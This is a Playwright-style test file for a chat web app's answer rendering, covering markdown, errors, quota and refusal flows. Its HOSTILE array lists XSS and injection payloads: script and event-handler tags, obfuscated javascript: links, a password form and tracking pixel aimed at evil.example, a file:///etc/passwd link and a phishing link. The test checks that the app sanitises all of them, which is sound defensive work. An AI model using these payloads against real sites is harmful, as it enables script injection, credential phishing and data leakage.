/** What an answer may look like, and what it may never do. */

import { assert, Chat, counted, until } from "./helpers.mjs";

export async function markdown(order) {
  const chat = await Chat.open(order);
  await chat.ask("show markdown");
  const answer = chat.answers.last();
  await answer.getByRole("cell", { name: "Paris" }).waitFor();
  await answer.locator(".hljs-keyword").first().waitFor();
  await answer.locator(".katex").nth(1).waitFor();
  const link = answer.getByRole("link");
  assert.equal(await link.getAttribute("href"), "https://example.com/");
  assert.match(await link.innerText(), /example\.com/, "a link says where it goes");

  await chat.page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await answer.getByRole("button", { name: "Copy code" }).click();
  assert.match(await chat.page.evaluate(() => navigator.clipboard.readText()), /^def greet\(name: str\)/);
  await answer.getByRole("button", { name: "Copy", exact: true }).click();
  assert.match(await chat.page.evaluate(() => navigator.clipboard.readText()), /^# Markdown/);
}

export async function prices(order) {
  const chat = await Chat.open(order);
  const text = await chat.ask("It is $5 now & was $10 &lt;before&gt;; \\(a^2\\) is math. 2 * 3 * 4");
  assert.match(text, /\$5 now & was \$10 <before>;/);
  await chat.answers.last().locator(".katex").waitFor();
  assert.equal(await chat.answers.last().locator(".katex").count(), 1);
}

const HOSTILE = [
  "<script>window.pwned = 1</script>",
  "<img src=x onerror='window.pwned = 2'>",
  "<iframe src='https://evil.example/frame'></iframe>",
  "<svg onload='window.pwned = 3'><style>*{display:none}</style></svg>",
  "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
  "<a href='javascript:window.pwned=4'>raw</a> <b onmouseover=alert(1)>bold</b>",
  "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "![tracking](https://evil.example/pixel.png?secret) ![ref][evil] ![data](data:text/html,<script>window.pwned=5</script>)",
  "[script](javascript:window.pwned=6) [tab](java&#x09;script:window.pwned=7) [data](data:text/html;base64,PHNjcmlwdD4=)",
  "[case](JaVaScRiPt:window.pwned=8) [vb](vbscript:x) [file](file:///etc/passwd) [blob](blob:https://evil.example/1)",
  "[inside](/v1/conversations) [protocol](//evil.example/x) <javascript:window.pwned=9>",
  "[https://bank.example](https://evil.example/phish)",
  "[evil]: https://evil.example/ref.png",
  "",
  "$\\href{javascript:window.pwned=10}{x} \\includegraphics{https://evil.example/y.png} \\htmlClass{a}{b}$",
  "",
  "```html\n<script>window.pwned = 11</script>\n```",
  "",
  "| <img src=x onerror=window.pwned=12> | b |\n|---|---|\n| [x](javascript:window.pwned=13) | ![y](https://evil.example/z.png) |",
  "",
  "- [ ] <input onfocus=window.pwned=14 autofocus>\n" + "> ".repeat(300) + "deep",
  "[".repeat(3000) + "*".repeat(3000) + "`".repeat(999),
];

export async function hostile(order) {
  const chat = await Chat.open(order);
  await chat.ask(HOSTILE.join("\n\n"));
  await isHarmless(chat);
  assert.equal(await chat.ask("count to 2"), counted(2), "the page lives on");

  const shared = { conversation: await chat.hasId() };
  const { id } = await chat.api("/shares", { method: "POST", body: JSON.stringify(shared) });
  const stranger = await Chat.open({ ...order, key: undefined }, {}, `/s/${id}`);
  await stranger.shows("Shared on");
  await isHarmless(stranger, stranger.answers.first());
}

/** Nothing of the answer runs, loads, or hides where it leads. */
async function isHarmless(chat, answer = chat.answers.last()) {
  await answer.locator(".hljs-tag, .hljs-name").first().waitFor();
  const elements = await answer.evaluate((element) => {
    const names = new Set([...element.querySelectorAll(".markdown *:not(svg *, math *, .katex *)")].map((each) => each.localName));
    const handlers = [...element.querySelectorAll("*")].flatMap((each) =>
      [...each.attributes].filter((attribute) => attribute.name.startsWith("on")).map((attribute) => attribute.name),
    );
    const links = [...element.querySelectorAll("a")].map((each) => [each.href, each.rel, each.target, each.innerText]);
    return { names: [...names], handlers, links };
  });
  for (const name of ["script", "iframe", "img", "form", "style", "link", "meta", "object", "embed", "video", "base"]) {
    assert.ok(!elements.names.includes(name), `an answer made a <${name}>`);
  }
  assert.deepEqual(elements.handlers, []);
  for (const [href, rel, target] of elements.links) {
    assert.match(href, /^(https?|mailto):/);
    assert.equal(target, "_blank");
    assert.match(rel, /noopener noreferrer/);
  }
  const phish = elements.links.find(([href]) => href.includes("phish"));
  assert.match(phish[3], /evil\.example/, "a link that names another host is marked with its own");
  assert.equal(await chat.page.evaluate(() => window.pwned), undefined);
  assert.match(await answer.innerText(), /window\.pwned = 1/, "what is not allowed is shown as text");
}

export async function errors(order) {
  const chat = await Chat.open(order);
  await chat.say("fail 500");
  await chat.answered("failed");
  await chat.shows("The model did not manage to answer. Your message is kept.");
  await chat.page.getByRole("button", { name: "Try again" }).dblclick();
  await until(async () => (await chat.turns()).filter((turn) => turn.status === "failed").length, (count) => count === 2);
  await chat.answered("failed");
  assert.equal((await chat.turns()).length, 2, "one click more is no turn more");
  assert.equal(await chat.questions.count(), 1);
  await chat.page.reload();
  await chat.shows("The model did not manage to answer.");

  assert.equal(await chat.ask("count to 3"), counted(3));
  await chat.say("fail 429");
  await chat.answered("failed");
  await chat.shows("The model has too much to do right now.");
  await chat.answers.last().getByText("Details").click();
  await chat.shows("The offline model was told to be busy.");
  await chat.say("fail filter");
  await chat.answered("incomplete");
  await chat.shows("The answer was stopped by the content filter.");
  await chat.say("fail cut");
  await chat.answered("failed");
  await chat.say("refuse");
  assert.match(await chat.answered(), /told to refuse/);
}

export async function lost(order) {
  const chat = await Chat.open(order, {}, "/c/conv_0123456789abcdef0123456789abcdef");
  await chat.shows("This conversation does not exist, or is not yours.");
  await chat.page.getByRole("alert").getByRole("button", { name: "New chat" }).click();
  await chat.page.getByRole("heading", { name: "What can I do for you?" }).waitFor();
}

/** A spent allowance is not a busy model: it is said at once, and once. */
export async function spent(order) {
  const chat = await Chat.open(order);
  await chat.ask("count to 2");
  let sends = 0;
  const json = { error: { message: "All of it.", type: "insufficient_quota", code: "insufficient_quota", param: null } };
  await chat.page.route("**/v1/responses", (route) => {
    sends += 1;
    return route.fulfill({ status: 429, json });
  });
  await chat.say("count to 3");
  await chat.shows("The allowance is used up.");
  assert.equal(sends, 1);
  await chat.page.unroute("**/v1/responses");
  await chat.page.getByRole("button", { name: "Try again" }).click();
  await chat.becomes(counted(3));
}

/** A request that is refused for good can be changed and sent. */
export async function refused(order) {
  const chat = await Chat.open(order);
  await chat.page.evaluate(() => localStorage.setItem("companion.model", "no-such-model"));
  await chat.page.route("**/v1/models", (route) => route.fulfill({ json: { object: "list", data: [{ id: "no-such-model" }] } }));
  await chat.page.reload();
  await chat.say("count to 3");
  await chat.shows("The request was not accepted as it is.");
  await chat.page.unroute("**/v1/models");
  await chat.page.getByRole("button", { name: "Back to editing" }).click();
  await until(() => chat.box.inputValue(), (text) => text === "count to 3");
  await chat.page.reload();
  await until(() => chat.box.inputValue(), (text) => text === "count to 3");
  await until(() => chat.page.getByRole("combobox", { name: "Model" }).inputValue(), (model) => model === "companion");
  await chat.box.press("Enter");
  assert.equal(await chat.answered(), counted(3));
}
